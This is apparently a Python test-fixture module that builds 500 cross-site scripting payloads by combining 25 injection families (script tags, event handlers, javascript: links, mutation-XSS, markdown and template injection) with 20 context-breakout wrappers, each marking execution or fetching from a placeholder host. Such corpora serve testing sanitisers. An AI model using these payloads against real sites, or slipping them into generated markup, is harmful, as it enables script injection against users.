"""500 texts that would run, fetch or lead astray where they are taken for markup: 25 families in 20 contexts, of our own making.

A family is a way to make a browser run, fetch or go somewhere. A context is what stands before and after it, made to break out of where
such a text may be placed. Each text has a number of its own: what runs sets ``window.ran``, what fetches asks ``HOST`` for that number.
"""

from __future__ import annotations

HOST = "xss.invalid"

RUN = "top.ran={n}"

FAMILIES = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    '<svg onload="{run}"></svg>',
    '<svg><script href="//{host}/{n}.js"></script></svg>',
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<input autofocus onfocus={run}>",
    '<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:{run}"></iframe>',
    '<a href="javascript:{run}">öppna</a>',
    '<a href="java&#9;script:{run}" target=_self>öppna</a>',
    '<form action="javascript:{run}"><button formaction="javascript:{run}">sänd</button></form>',
    '<object data="data:text/html,<script>{run}</script>"></object><embed src="//{host}/{n}.svg">',
    '<img src="https://{host}/{n}.png" srcset="//{host}/{n}.webp 2x" alt="bild">',
    '<link rel=stylesheet href="//{host}/{n}.css"><link rel=prefetch href="//{host}/{n}">',
    "<style>@import '//{host}/{n}.css'; body{{background:url(//{host}/{n}.gif)}}</style>",
    '<p style="background:url(//{host}/{n}.gif);position:fixed;inset:0" onmouseover={run}>x</p>',
    '<video poster="//{host}/{n}.jpg" onloadstart={run}><source onerror={run} src=x></video>',
    '<meta http-equiv=refresh content="0;url=//{host}/{n}"><base href="//{host}/">',
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={run}>",
    '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
    "&lt;img src=x onerror={run}&gt;&#60;script&#62;{run}&#60;/script&#62;",
    "![bild](https://{host}/{n}.png) [öppna](javascript:{run}) <https://{host}/{n}> [ref]: //{host}/{n}",
    "$\\href{{javascript:{run}}}{{x}}$ $$\\includegraphics{{//{host}/{n}.png}}$$ :material/home: :red[x] :violet-badge[x]",
    "{{{{constructor.constructor('{run}')()}}}} ${{{run}}} <%= {run} %> #{{{run}}} javascript:{run}",
    '"}}</script><script>{run}</script>{{"a":"\\u003cimg src=x onerror={run}\\u003e',
)

CONTEXTS = (
    ("", ""),
    ('">', ""),
    ("'>", ""),
    ('" autofocus onfocus={run} x="', ""),
    ("' onpointerenter={run} tabindex=0 x='", ""),
    ("` onfocus={run} x=`", ""),
    ("</textarea>", "<textarea>"),
    ("</title>", ""),
    ("</style>", "<style>"),
    ("</script>", "<script>"),
    ("</button></summary></details>", ""),
    ("--><!-- -->", "<!--"),
    ("]]>", "<![CDATA["),
    ("</p></blockquote></li></td></tr></table>", ""),
    ("# ", "\n\n---\n"),
    ("- `x` **", "** ~~x~~"),
    ("| a | b |\n|---|---|\n| ", " | x |"),
    ("\u202e\u200b\ufeff", "\u2028\u2029"),
    ("%3Cb%3E \\u003cb\\u003e \\x3cb\\x3e ", " \\"),
    ("<b><i><u>", "<x:y z"),
)


def payloads() -> tuple[str, ...]:
    """All of them, the same every time, no two alike."""
    made = []
    for before, after in CONTEXTS:
        for family in FAMILIES:
            n = len(made)
            values = {"n": n, "host": HOST, "run": RUN.format(n=n)}
            made.append(f"{before.format(**values)}{family.format(**values)}{after.format(**values)}")
    return tuple(made)
